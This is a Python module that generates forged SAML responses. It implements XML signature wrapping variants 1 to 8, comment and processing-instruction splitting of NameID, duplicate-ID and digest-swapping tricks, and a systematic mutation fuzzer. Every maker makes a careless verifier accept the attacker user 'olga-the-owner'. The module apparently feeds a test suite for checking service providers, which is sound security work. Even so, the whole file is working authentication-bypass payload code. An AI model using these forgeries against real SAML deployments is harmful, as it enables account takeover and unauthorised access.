"""Ways to say something else with somebody's signature: signature wrapping 1 to 8 and what has worked elsewhere.

Each maker takes a signed response (one Response, one Assertion, both signed) and returns a forged one: the first
assertion that a careless reader finds in it says that `EVIL` signed in. Somorovsky et al., "On Breaking SAML" (2012),
numbers the first eight; the rest are published defects of real libraries.
"""

import copy
from collections.abc import Callable, Iterator
from typing import Any

from lxml import etree

EVIL = "olga-the-owner"
DS = "http://www.w3.org/2000/09/xmldsig#"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
Tree = Any  # lxml comes without types
Maker = Callable[[Tree], Tree]


def assertion_of(root: Tree) -> Tree:
    return root.find(f"{{{SAML}}}Assertion")


def signature_of(element: Tree) -> Tree:
    return element.find(f"{{{DS}}}Signature")


def evil_twin(element: Tree, keep_signature: bool = False, new_id: bool = True) -> Tree:
    """Return a copy that says `EVIL`."""
    twin = copy.deepcopy(element)
    for name in twin.iter(f"{{{SAML}}}NameID"):
        name.text = EVIL
    if not keep_signature:
        for signature in list(twin.iter(f"{{{DS}}}Signature")):
            signature.getparent().remove(signature)
    if new_id:
        twin.set("ID", "_evil")
    return twin


def xsw1(root: Tree) -> Tree:
    """The evil response holds, in its signature, the response that was signed."""
    evil = evil_twin(root)
    signature = copy.deepcopy(signature_of(root))
    original = copy.deepcopy(root)
    original.remove(signature_of(original))
    signature.append(original)
    evil.insert(1, signature)
    return evil


def xsw2(root: Tree) -> Tree:
    """The signed response stands before a detached signature in the evil one."""
    evil = evil_twin(root)
    original = copy.deepcopy(root)
    signature = signature_of(original)
    original.remove(signature)
    evil.insert(1, original)
    evil.insert(2, signature)
    return evil


def xsw3(root: Tree) -> Tree:
    """The evil assertion stands before the signed one."""
    changed = copy.deepcopy(root)
    changed.insert(list(changed).index(assertion_of(changed)), evil_twin(assertion_of(changed)))
    return changed


def xsw4(root: Tree) -> Tree:
    """The signed assertion stands in the evil one."""
    changed = copy.deepcopy(root)
    original = assertion_of(changed)
    evil = evil_twin(original)
    changed.replace(original, evil)
    evil.append(original)
    return changed


def xsw5(root: Tree) -> Tree:
    """The evil assertion has the signature; the signed one, without it, stands at the end."""
    changed = copy.deepcopy(root)
    original = assertion_of(changed)
    evil = evil_twin(original, keep_signature=True)
    changed.replace(original, evil)
    original.remove(signature_of(original))
    changed.append(original)
    return changed


def xsw6(root: Tree) -> Tree:
    """The signed assertion stands in the signature of the evil one."""
    changed = copy.deepcopy(root)
    original = assertion_of(changed)
    evil = evil_twin(original, keep_signature=True)
    changed.replace(original, evil)
    original.remove(signature_of(original))
    signature_of(evil).append(original)
    return changed


def xsw7(root: Tree) -> Tree:
    """The evil assertion stands in Extensions, which schemas let hold anything."""
    changed = copy.deepcopy(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil_twin(assertion_of(changed), new_id=False))
    changed.insert(list(changed).index(assertion_of(changed)), extensions)
    return changed


def xsw8(root: Tree) -> Tree:
    """The signed assertion stands in an Object of the evil one's signature."""
    changed = copy.deepcopy(root)
    original = assertion_of(changed)
    evil = evil_twin(original, keep_signature=True, new_id=False)
    changed.replace(original, evil)
    original.remove(signature_of(original))
    holder = etree.SubElement(signature_of(evil), f"{{{DS}}}Object")
    holder.append(original)
    return changed


def duplicate_id(root: Tree) -> Tree:
    changed = copy.deepcopy(root)
    changed.append(evil_twin(assertion_of(changed), keep_signature=True, new_id=False))
    return changed


def other_id_attribute(root: Tree) -> Tree:
    """An attribute that some readers take for the ID too."""
    changed = copy.deepcopy(root)
    evil = evil_twin(assertion_of(changed))
    evil.set("Id", assertion_of(changed).get("ID"))
    changed.insert(2, evil)
    return changed


def comment_in_name(root: Tree) -> Tree:
    """A comment, which canonicalisation drops, splits the subject in two."""
    changed = copy.deepcopy(root)
    [name] = changed.iter(f"{{{SAML}}}NameID")
    text = name.text or ""
    name.text = text[:2]
    comment = etree.Comment("x")
    comment.tail = text[2:]
    name.append(comment)
    return changed


def instruction_in_name(root: Tree) -> Tree:
    changed = copy.deepcopy(root)
    [name] = changed.iter(f"{{{SAML}}}NameID")
    text = name.text or ""
    name.text = text[:2]
    instruction = etree.ProcessingInstruction("x", "y")
    instruction.tail = text[2:]
    name.append(instruction)
    return changed


def unsigned(root: Tree) -> Tree:
    return evil_twin(root, new_id=False)


def only_message_signed(root: Tree) -> Tree:
    changed = copy.deepcopy(root)
    assertion_of(changed).remove(signature_of(assertion_of(changed)))
    return changed


def only_assertion_signed(root: Tree) -> Tree:
    changed = copy.deepcopy(root)
    changed.remove(signature_of(changed))
    return changed


def empty_reference(root: Tree) -> Tree:
    changed = copy.deepcopy(root)
    for reference in changed.iter(f"{{{DS}}}Reference"):
        reference.set("URI", "")
    return changed


def two_references(root: Tree) -> Tree:
    changed = copy.deepcopy(root)
    for info in changed.iter(f"{{{DS}}}SignedInfo"):
        info.append(copy.deepcopy(info.find(f"{{{DS}}}Reference")))
    return changed


def no_reference(root: Tree) -> Tree:
    changed = copy.deepcopy(root)
    for info in changed.iter(f"{{{DS}}}SignedInfo"):
        info.remove(info.find(f"{{{DS}}}Reference"))
    return changed


def swapped_digests(root: Tree) -> Tree:
    """Two DigestValues, of which the second is the true one (CVE-2024-45409's kin)."""
    changed = copy.deepcopy(root)
    for value in list(changed.iter(f"{{{DS}}}DigestValue")):
        forged = copy.deepcopy(value)
        forged.text = "AAAA"
        value.addprevious(forged)
    return changed


def encrypted(root: Tree) -> Tree:
    """An EncryptedAssertion with PKCS#1 v1.5, which would make an oracle of whoever tries to open it."""
    changed = copy.deepcopy(root)
    original = assertion_of(changed)
    holder = etree.Element(f"{{{SAML}}}EncryptedAssertion")
    xenc = "http://www.w3.org/2001/04/xmlenc#"
    data = etree.SubElement(holder, f"{{{xenc}}}EncryptedData")
    etree.SubElement(data, f"{{{xenc}}}EncryptionMethod").set("Algorithm", f"{xenc}rsa-1_5")
    changed.replace(original, holder)
    return changed


MAKERS: list[Maker] = [
    xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8, duplicate_id, other_id_attribute, comment_in_name,
    instruction_in_name, unsigned, only_message_signed, only_assertion_signed, empty_reference, two_references,
    no_reference, swapped_digests, encrypted,
]  # fmt: skip


def systematic(root: Tree) -> Iterator[tuple[str, Tree]]:
    """Yield a response for every element and attribute that can be dropped, doubled, emptied, moved or changed."""
    for index, element in enumerate(root.iter()):
        name = etree.QName(element).localname
        for act in ACTS:
            changed = _acted(root, index, act)
            if changed is not None:
                yield f"{act} {name} #{index}", changed
        for attribute in element.attrib:
            for value in (None, "", "x", f"{element.get(attribute)}x"):
                yield f"{attribute}={value} of {name} #{index}", _with_attribute(root, index, attribute, value)


def _acted(root: Tree, index: int, act: str) -> Tree | None:
    """Return the response with one act done to its element number `index`; `None` where it cannot be."""
    changed = copy.deepcopy(root)
    element = list(changed.iter())[index]
    if element.getparent() is None and act in {"drop", "double", "swap", "hoist"}:
        return None
    return changed if ACTS[act](element, changed) else None


def _drop(element: Tree, _: Tree) -> bool:
    element.getparent().remove(element)
    return True


def _double(element: Tree, _: Tree) -> bool:
    element.addnext(copy.deepcopy(element))
    return True


def _empty(element: Tree, _: Tree) -> bool:
    had = len(element) > 0
    del element[:]
    return had


def _text(element: Tree, _: Tree) -> bool:
    if not element.text or len(element):
        return False
    element.text = EVIL
    return True


def _retag(element: Tree, _: Tree) -> bool:
    element.tag = f"{{{SAML}}}Advice"
    return True


def _swap(element: Tree, _: Tree) -> bool:
    other = element.getnext()
    if other is None:
        return False
    other.addnext(element)
    return True


def _hoist(element: Tree, root: Tree) -> bool:
    root.append(element)
    return True


def _child(element: Tree, _: Tree) -> bool:
    etree.SubElement(element, f"{{{SAML}}}NameID").text = EVIL
    return True


def _more(element: Tree, _: Tree) -> bool:
    element.text = f"{element.text or ''}{EVIL}"
    return True


ACTS: dict[str, Callable[[Tree, Tree], bool]] = {
    "drop": _drop, "double": _double, "empty": _empty, "text": _text, "more": _more, "retag": _retag, "swap": _swap,
    "hoist": _hoist, "child": _child,
}  # fmt: skip


def _with_attribute(root: Tree, index: int, name: str, value: str | None) -> Tree:
    changed = copy.deepcopy(root)
    element = list(changed.iter())[index]
    if value is None:
        del element.attrib[name]
    else:
        element.set(name, value)
    return changed
